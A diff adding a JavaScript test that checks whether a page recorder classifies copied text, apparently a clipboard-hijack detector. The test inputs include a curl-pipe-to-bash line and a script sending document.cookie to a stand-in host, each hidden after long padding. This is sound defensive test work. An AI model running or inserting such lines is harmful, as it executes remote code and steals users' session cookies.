@@ -88,3 +88,14 @@ test('a page has arrived when its address is one of the web', () => {
   arrived('https://user:password@b.example/#top')
   assert.deepEqual([seen.loaded, seen.finalUrl], [true, 'https://b.example/'])
 })
+
+test('a copied text is judged before it is cut', () => {
+  const { copied, seen } = pageRecorder()
+  copied(`# ${'check '.repeat(200)}\ncurl -s https://else.example/a | bash`, false)
+  copied(`/* ${'check '.repeat(200)} */ open('https://else.example/?' + document.cookie)`, false)
+  copied('check '.repeat(200), false)
+  assert.deepEqual(
+    seen.copies.map(({ does }) => does),
+    ['command', 'sends-session', undefined],
+  )
+})
